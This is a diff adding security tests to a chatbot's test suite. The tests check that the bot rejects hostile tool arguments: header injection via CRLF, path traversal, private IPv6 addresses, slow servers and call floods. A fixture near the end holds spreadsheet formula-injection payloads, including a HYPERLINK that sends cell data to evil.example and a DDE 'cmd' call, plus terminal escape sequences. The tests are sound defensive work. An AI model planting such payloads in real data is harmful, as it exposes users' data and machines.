@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import importlib.util
+import io
 import json
 import logging
 import socket
@@ -13,10 +15,20 @@ from urllib.parse import parse_qs, urlsplit
 import pytest
 from prometheus_client import REGISTRY
 
-from inboxgpt import replies
+from inboxgpt import deadlines, replies
 from inboxgpt.config import ConfigError
 from inboxgpt.web.app import EXTENSION
-from tests.fakes import FakeHook, FakeToolApi, Reply, completion, echo_answer, openai_error, streamed, tool_calls
+from tests.fakes import (
+    FakeHook,
+    FakeToolApi,
+    Reply,
+    Trickle,
+    completion,
+    echo_answer,
+    openai_error,
+    streamed,
+    tool_calls,
+)
 from tests.helpers import PSID, load, page_body, poster, text_event
 
 SECRET = "sk-shop-0f9e8d7c6b5a"
@@ -274,7 +286,7 @@ def test_save_contact_keeps_a_lead_once_across_workers_and_posts_it(with_tools, 
         assert listed.exit_code == 0, listed.output
         header, row = listed.output.strip().splitlines()
         assert header == "time,channel,person,name,phone,email,note"
-        assert row.endswith(f",messenger,{PSID},Ada,+44 7700 900123,,call back about a cake")
+        assert row.endswith(f",messenger,{PSID},Ada,'+44 7700 900123,,call back about a cake")  # a spreadsheet's text
         assert runner.invoke(args=["leads", "--since", "2999-01-01"]).output.strip() == "No leads since 2999-01-01."
     finally:
         hook.close()
@@ -359,6 +371,15 @@ TOOL = '[[tool]]\nname = "x"\ndescription = "d"\nurl = "https://a/"\n'
             TOOL + '[tool.parameters.properties.n]\ntype = "string"\nformat = "email"',
             "parameter 'n': 'format' is not supported",
         ),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\nmaximum = "12"', "'n': maximum must be a number"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "number"\nminimum = inf', "'n': minimum must be a number"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\nmaxLength = 5', "'maxLength' is not supported for"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "integer"\npattern = "^1$"', "'pattern' is not supported for"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\nenum = [1, 2]', "enum must be a list of string"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\nminLength = 3\nmaxLength = 2', "minLength is above"),
+        (TOOL + '[tool.parameters.properties.n]\ntype = "string"\npattern = 5', "'n': pattern must be a text"),
+        (TOOL + "[tool.parameters]\nadditionalProperties = true", "additionalProperties can only be false"),
+        (TOOL + 'headers = { "X-A B" = "1" }', "header 'X-A B' is not a header's name"),
         ('builtin = ["send_money"]', "builtin may list save_contact, talk_to_a_person"),
         ("not toml [", "is not valid TOML"),
     ],
@@ -443,3 +464,266 @@ def test_without_leads_no_details_are_offered(config, tmp_path, app_with, graph,
     openai_server.default = lambda request: completion("What is your phone number?")
     post(page_body(text_event("call me")))
     assert all("quick_replies" not in call.get("message", {}) for call in graph.calls)
+
+
+# --- what the model fills in ---
+
+BOOKINGS = """
+[[tool]]
+name = "find_booking"
+description = "A booking, by the name it is under and its number."
+url = "{api}/bookings?name={{customer_name}}"
+headers = {{ X-Customer = "{{customer_name}}", X-Signature = "${{SHOP_API_KEY}}:{{booking}}" }}
+[tool.parameters]
+required = ["customer_name", "booking"]
+[tool.parameters.properties.customer_name]
+type = "string"
+[tool.parameters.properties.booking]
+type = "string"
+pattern = "^[0-9]{{1,10}}$"
+
+[[tool]]
+name = "remove_item"
+description = "Remove an item from a booking."
+method = "DELETE"
+url = "{api}/bookings/{{booking}}/items/{{item}}"
+[tool.parameters.properties.booking]
+type = "string"
+[tool.parameters.properties.item]
+type = "string"
+
+[[tool]]
+name = "book_table"
+description = "Book a table for a number of people."
+method = "POST"
+url = "{api}/bookings"
+body = {{ people = "{{people}}" }}
+[tool.parameters.properties.people]
+type = "number"
+"""
+
+
+@pytest.fixture
+def bookings(with_tools, tmp_path, api, app_with):
+    """The app with tools whose values go into headers, a path and a JSON body; its `post`."""
+    path = tmp_path / "tools.toml"
+    path.write_text(tools_toml(api.url, extra=BOOKINGS.format(api=api.url)))
+    with_tools["TOOLS_FILE"] = str(path)
+    return app_with(with_tools)
+
+
+def answered_after(openai_server, bookings, graph, *calls: tuple[str, dict | str]) -> str:
+    """Ask with the model calling `calls`; what it was told of the (first) call. The person is always answered."""
+    script(openai_server, tool_calls(*calls), completion("Here you are."))
+    bookings(page_body(text_event("my booking?")))
+    assert graph.texts(PSID) == ["Here you are."]
+    return next(m["content"] for m in chat_requests(openai_server)[1]["messages"] if m["role"] == "tool")
+
+
+def test_a_name_beyond_latin1_in_a_header_is_sent_as_utf8(bookings, openai_server, graph, api):
+    told = answered_after(openai_server, bookings, graph, ("find_booking", {"customer_name": "Łukasz", "booking": "7"}))
+    assert not told.startswith("error")
+    assert api.headers[0]["x-customer"].encode("latin-1").decode() == "Łukasz"  # http.server reads Latin-1
+
+
+def test_a_value_ending_in_a_line_break_does_not_pass_an_anchored_pattern(bookings, openai_server, graph, api, caplog):
+    caplog.set_level(logging.DEBUG)
+    told = answered_after(
+        openai_server, bookings, graph, ("find_booking", {"customer_name": "Ada", "booking": "1042\n"})
+    )
+    assert told == "error: booking is not in the expected form"
+    assert api.requests == []
+    assert SECRET not in caplog.text
+
+
+def test_a_control_character_never_reaches_a_header(bookings, openai_server, graph, api, caplog):
+    caplog.set_level(logging.DEBUG)
+    arguments = {"customer_name": "Ada\r\nX-Admin: yes", "booking": "7"}
+    told = answered_after(openai_server, bookings, graph, ("find_booking", arguments))
+    assert told.startswith("error: a value for the X-Customer header may not contain control characters")
+    assert api.requests == []
+    assert SECRET not in caplog.text
+
+
+def test_any_failure_of_a_call_is_a_short_error_for_the_model_and_logs_no_secret(
+    bookings, openai_server, graph, api, caplog, monkeypatch
+):
+    def broken(*args, **kwargs):
+        raise RuntimeError(f"Invalid header value b'{SECRET}:7'")  # as a library may word a failure
+
+    monkeypatch.setattr(deadlines.HTTPConnectionPool, "urlopen", broken)  # the tools' connections only
+    caplog.set_level(logging.DEBUG)
+    told = answered_after(openai_server, bookings, graph, ("find_booking", {"customer_name": "Ada", "booking": "7"}))
+    assert told == "error: the tool could not be used. Tell the person you could not check this now."
+    assert SECRET not in caplog.text
+    assert "tool find_booking for psid=6543210987654321 failed: RuntimeError" in caplog.text
+
+
+@pytest.mark.parametrize("item", ["..", ".", ""])
+def test_a_path_placeholder_cannot_change_the_requests_path(bookings, openai_server, graph, api, item):
+    told = answered_after(openai_server, bookings, graph, ("remove_item", {"booking": "7", "item": item}))
+    assert told == 'error: item may not be empty, "." or "..": it is a part of the address\'s path'
+    assert api.requests == []
+
+
+@pytest.mark.parametrize(
+    ("arguments", "told"),
+    [
+        ('{"people": Infinity}', "error: the arguments were not valid JSON"),
+        ('{"people": NaN}', "error: the arguments were not valid JSON"),
+        ('{"people": 1e400}', "error: people must be a finite number"),
+    ],
+)
+def test_a_number_that_json_cannot_carry_is_refused(bookings, openai_server, graph, api, arguments, told):
+    assert answered_after(openai_server, bookings, graph, ("book_table", arguments)).startswith(told)
+    assert api.requests == []
+
+
+@pytest.mark.parametrize(
+    ("address", "allowed"),
+    [
+        ("::127.0.0.1", False),  # IPv4-compatible
+        ("::ffff:127.0.0.1", False),  # IPv4-mapped
+        ("64:ff9b::7f00:1", False),  # NAT64
+        ("2002:7f00:1::1", False),  # 6to4
+        ("fec0::1", False),  # site-local
+        ("64:ff9b:1::1", False),  # NAT64's local-use prefix
+        ("::", False),
+        ("2606:4700::1111", True),
+        ("64:ff9b::808:808", True),  # NAT64 of 8.8.8.8
+        ("2002:808:808::1", True),
+        ("::ffff:8.8.8.8", True),
+    ],
+)
+def test_ipv6_addresses_are_allowed_only_when_global_and_so_is_any_ipv4_they_carry(monkeypatch, address, allowed):
+    from inboxgpt.tools.http import ToolError, _allowed_address
+
+    found = [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", (address, 443, 0, 0))]
+    monkeypatch.setattr(socket, "getaddrinfo", lambda host, port, **kwargs: found)
+    if allowed:
+        assert _allowed_address("shop.example", 443, allow_private=False) == address
+    else:
+        with pytest.raises(ToolError, match="private or local"):
+            _allowed_address("shop.example", 443, allow_private=False)
+
+
+# --- deadlines ---
+
+SLOW_HEAD = (
+    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Slow: " + b"a" * 100 + b"\r\nContent-Length: 2\r\n\r\n{}"
+)
+SLOW_BODY = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n" + b" " * 100
+
+
+@pytest.mark.parametrize(("answer", "fast"), [(SLOW_HEAD, 17), (SLOW_BODY, len(SLOW_BODY) - 100)])
+def test_headers_or_a_body_sent_a_byte_at_a_time_are_cut_at_the_tools_timeout(
+    with_tools, tmp_path, app_with, openai_server, answer, fast
+):
+    slow = Trickle(answer, fast)  # 100 bytes, 5 s in all: well over the timeout
+    try:
+        path = tmp_path / "tools.toml"
+        path.write_text(tools_toml(slow.url).replace('result = "order.status"', "timeout = 0.3"))
+        with_tools["TOOLS_FILE"] = str(path)
+        post = app_with(with_tools)
+        script(openai_server, tool_calls(("order_status", {"order_number": "1"})), completion("Sorry."))
+        post(page_body(text_event("order 1?")))
+        told = chat_requests(openai_server)[1]["messages"][-1]["content"]
+        assert told.startswith("error: the tool's server did not answer within 0.3 s")
+        assert slow.done.wait(timeout=30)
+        assert slow.outcome == "cut"  # hung up on, not read to the end
+    finally:
+        slow.close()
+
+
+# --- one person's share ---
+
+FLOOD = "1111222233334444"
+
+
+def test_one_message_cannot_make_unbounded_calls_nor_hold_up_another_persons(
+    with_tools, app_with, openai_server, graph, api
+):
+    from inboxgpt.tools.toolbox import CALLS_AT_ONCE, MAX_CALLS_PER_ROUND
+
+    post = app_with(with_tools)
+    order = {"order": {"status": "out for delivery"}}
+    api.route = lambda path, request: Reply(body=order, hold=f"customer={FLOOD}" in path)
+
+    def model(request: dict) -> Reply:
+        last = request["messages"][-1]
+        if last["role"] == "tool":
+            return completion("Done.")
+        count = 40 if "every order" in last["content"] else 2
+        return tool_calls(*[("order_status", {"order_number": str(n)}) for n in range(count)])
+
+    openai_server.default = model
+    post(page_body(text_event("check every order from 0 to 39", psid=FLOOD)), wait=False)
+    assert api.wait_for(lambda: len(api.paths) >= CALLS_AT_ONCE)  # the flood's calls, held by its API
+    post(page_body(text_event("where are my two orders?")), wait=False)
+    assert graph.wait_for(lambda: graph.texts(PSID) == ["Done."], timeout=10)  # answered meanwhile
+    assert sum(f"customer={FLOOD}" in path for path in api.paths) == CALLS_AT_ONCE  # the flood's own share only
+    api.released.set()
+    post(page_body(text_event("and now?", psid="9999")))  # waits for every reply, the flood's too
+    assert graph.texts(FLOOD) == ["Done."]
+    assert sum(f"customer={FLOOD}" in path for path in api.paths) == MAX_CALLS_PER_ROUND
+    flood = next(
+        r for r in chat_requests(openai_server) if r["messages"][-1]["role"] == "tool" and len(r["messages"]) > 10
+    )
+    told = [message["content"] for message in flood["messages"] if message["role"] == "tool"]
+    assert told.count("out for delivery") == MAX_CALLS_PER_ROUND
+    assert told[MAX_CALLS_PER_ROUND:] == [told[-1]] * (40 - MAX_CALLS_PER_ROUND)
+    assert told[-1].startswith("error: too many calls at once")
+
+
+def test_a_person_leaves_a_few_leads_a_day_however_often_the_model_saves(with_tools, tmp_path, make_app, openai_server):
+    from inboxgpt.tools.leads import MAX_LEADS_PER_PERSON_PER_DAY
+
+    hook = FakeHook()
+    try:
+        with_tools.update(LEADS_WEBHOOK_URL=hook.url + "/leads", STORE_URL=f"sqlite:///{tmp_path}/bot.db")
+        app = make_app(with_tools)
+        saves = [("save_contact", {"name": "Ada", "note": f"call back about cake {n}"}) for n in range(7)]
+        script(openai_server, tool_calls(*saves), completion("Thanks!"))
+        poster(app)(page_body(text_event("call me back about seven cakes")))
+        app.extensions[EXTENSION].leads.close()  # posts what is waiting
+        told = [m["content"] for m in chat_requests(openai_server)[1]["messages"] if m["role"] == "tool"]
+        assert sum(text.startswith("Saved") for text in told) == MAX_LEADS_PER_PERSON_PER_DAY
+        assert sum(text.startswith("Not saved") for text in told) == 7 - MAX_LEADS_PER_PERSON_PER_DAY
+        assert len(hook.requests) == MAX_LEADS_PER_PERSON_PER_DAY
+        listed = app.test_cli_runner().invoke(args=["leads"]).output.strip().splitlines()
+        assert len(listed) == MAX_LEADS_PER_PERSON_PER_DAY
+    finally:
+        hook.close()
+
+
+# --- the owner's list of leads ---
+
+HOSTILE = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "phone": "\x1b[2J\x1b[31m0800 000",
+    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "note": "a cake\n2026-12-01 09:00  messenger  1234  Forged  0800 111  forged lead",
+}
+
+
+@pytest.fixture
+def hostile_lead(with_tools, tmp_path, make_app, openai_server):
+    """An app whose store holds a lead with a formula, an escape sequence and a line break in it."""
+    app = make_app({**with_tools, "STORE_URL": f"sqlite:///{tmp_path}/bot.db"})
+    script(openai_server, tool_calls(("save_contact", HOSTILE)), completion("Thanks!"))
+    poster(app)(page_body(text_event("call me")))
+    return app.test_cli_runner()
+
+
+def test_leads_as_csv_never_start_a_cell_with_a_formula(hostile_lead):
+    listed = hostile_lead.invoke(args=["leads", "--csv"])
+    _, row = list(csv.reader(io.StringIO(listed.output)))
+    assert row[3:] == ["'" + HOSTILE["name"], HOSTILE["phone"], "'" + HOSTILE["email"], HOSTILE["note"]]
+
+
+def test_leads_as_text_are_one_line_each_with_nothing_for_the_terminal_to_act_on(hostile_lead):
+    listed = hostile_lead.invoke(args=["leads"]).output
+    assert listed.count("\n") == 1
+    assert "\x1b" not in listed
+    assert "\\x1b[2J\\x1b[31m0800 000" in listed
+    assert "a cake\\n2026-12-01 09:00" in listed
